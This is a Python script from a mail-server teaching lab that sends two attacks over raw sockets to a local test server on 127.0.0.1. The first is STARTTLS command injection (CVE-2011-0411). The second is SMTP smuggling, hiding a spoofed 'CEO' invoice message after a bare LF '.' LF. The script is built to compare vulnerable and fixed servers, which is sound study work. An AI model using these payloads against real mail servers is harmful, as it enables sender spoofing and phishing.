#!/usr/bin/env python3
"""attack.py - the two attacks of lab 10 that no well-behaved client sends.

    attack.py inject  PORT [--cafile CA]   STARTTLS command injection
    attack.py smuggle PORT                 SMTP smuggling with a bare LF

mailsh always sends CRLF and never pipelines behind STARTTLS, so these
two are done here, with raw sockets, and every byte sent and received is
printed.  Run each against the broken fake server (labs/10-attacks/
fakesmtp.py) and then against maillab's smtpd, and compare.  Loopback
only: the host is always 127.0.0.1.

inject (CVE-2011-0411): "STARTTLS" and a MAIL command go out in one write,
as a man in the middle would add them to a client's STARTTLS.  A server
that keeps the plaintext it buffered runs the MAIL inside TLS, as if the
client had sent it there; RFC 3207 section 4.2 says to throw it away.

smuggle (SMTP smuggling, 2023): one DATA whose text holds a bare LF "." LF
and, behind it, a second transaction.  A server that ends data there reads
the second transaction as commands; RFC 5321 section 4.1.1.4 ends data only
at CRLF "." CRLF, and maillab's smtpd refuses text with a bare LF.
"""

import argparse
import socket
import ssl
import sys

HOST = "127.0.0.1"
TIMEOUT = 10.0


class Wire:
    """A socket that prints what crosses it."""

    def __init__(self, port):
        self.sock = socket.create_connection((HOST, port), timeout=TIMEOUT)
        self.buf = b""

    def send(self, data):
        """Send in one write; each line is shown with its real ending."""
        for line in data.splitlines(keepends=True):
            print("C: %r" % line)
        self.sock.sendall(data)

    def reply(self):
        """One SMTP reply; returns its last line."""
        return self.reply_lines()[-1]

    def reply_lines(self):
        """One SMTP reply, all its lines."""
        lines = []
        while True:
            while b"\n" not in self.buf:
                chunk = self.sock.recv(65536)
                if not chunk:
                    raise SystemExit("-- the server closed the connection")
                self.buf += chunk
            line, _, self.buf = self.buf.partition(b"\n")
            text = line.decode("utf-8", "replace").rstrip("\r")
            print("S: " + text)
            lines.append(text)
            if len(text) < 4 or text[3] != "-":
                return lines


def inject(port, cafile):
    w = Wire(port)
    w.reply()
    w.send(b"EHLO attacker.example\r\n")
    w.reply()
    # one write: the STARTTLS and a command the client never typed
    w.send(b"STARTTLS\r\nMAIL FROM:<mallory@evil.example>\r\n")
    if not w.reply().startswith("220"):
        raise SystemExit("-- STARTTLS was refused")
    if w.buf:
        print("-- %d octets arrived before the handshake: a client must drop "
              "them (RFC 3207 section 4.2)" % len(w.buf))
        w.buf = b""
    ctx = ssl.create_default_context(cafile=cafile)
    w.sock = ctx.wrap_socket(w.sock, server_hostname="localhost")
    print("-- TLS %s: from here on, only what is sent inside TLS should count" % w.sock.version())
    w.send(b"EHLO victim.example\r\n")
    if len(w.reply_lines()) == 1:
        # an EHLO reply is a list; a one-line 250 answers something else
        print("-- VULNERABLE: that reply answers the MAIL injected before TLS, "
              "not our EHLO, whose reply follows")
        w.reply()
    else:
        print("-- not vulnerable: the first reply inside TLS answers our EHLO; "
              "the injected MAIL was thrown away")
    w.send(b"QUIT\r\n")
    w.reply()


def smuggle(port):
    w = Wire(port)
    w.reply()
    w.send(b"EHLO attacker.example\r\n")
    w.reply()
    w.send(b"MAIL FROM:<mallory@evil.example>\r\n")
    w.reply()
    w.send(b"RCPT TO:<alice@maillab.test>\r\n")
    w.reply()
    w.send(b"DATA\r\n")
    w.reply()
    w.send(b"From: mallory@evil.example\r\nSubject: Lab 10: an innocent message\r\n\r\n"
           b"Nothing to see here.\r\n"
           b"\n.\n"
           b"MAIL FROM:<ceo@bank.example>\r\n"
           b"RCPT TO:<alice@maillab.test>\r\n"
           b"DATA\r\n"
           b"From: The CEO <ceo@bank.example>\r\nSubject: Lab 10: SMUGGLED, pay this invoice\r\n\r\n"
           b"This message was hidden inside the first one.\r\n"
           b".\r\n")
    last = w.reply()
    if "message 1" in last:
        print("-- VULNERABLE: the server ended the data at the bare LF . LF; the "
              "text behind it is being read as commands")
        for _ in range(4):   # MAIL, RCPT, DATA and the end of the second text
            last = w.reply()
        if "message 2" in last:
            print("-- and it accepted the smuggled second message")
    else:
        print("-- not vulnerable: one message, judged as a whole")
    w.send(b"QUIT\r\n")
    w.reply()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=("inject", "smuggle"))
    ap.add_argument("port", type=int)
    ap.add_argument("--cafile", help="the lab CA, for the TLS of inject "
                    "(build/labs/10/tls/ca.pem)")
    opts = ap.parse_args()
    if opts.attack == "inject":
        if not opts.cafile:
            ap.error("inject needs --cafile (the lab CA)")
        inject(opts.port, opts.cafile)
    else:
        smuggle(opts.port)
    return 0


if __name__ == "__main__":
    sys.exit(main())
